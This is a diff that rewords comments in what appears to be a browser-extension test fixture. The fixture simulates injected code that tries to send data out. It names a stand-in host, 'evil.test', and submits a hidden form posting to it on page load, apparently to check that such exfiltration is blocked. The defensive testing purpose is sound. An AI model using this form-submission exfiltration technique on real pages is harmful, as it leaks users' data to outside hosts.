@@ -1,5 +1,5 @@
 // @ts-check
-// Runs before our own code in a copy of the extension, as code would that got into it: it tries to send something away.
+// Runs before our own code in a copy of the extension, like injected code: it tries to send data out.
 
 {
   const AWAY = "https://evil.test";
@@ -33,7 +33,7 @@
       addEventListener("pagehide", resolve);
       const form = Object.assign(document.createElement("form"), { method: "post", action: `${AWAY}/form` });
       document.documentElement.append(form);
-      addEventListener("load", () => form.submit()); // Not before: it would end the loading.
+      addEventListener("load", () => form.submit()); // An earlier submit would stop the loading.
     });
   }
   const outcomes = Object.entries(attempts).map(async ([name, attempt]) => {
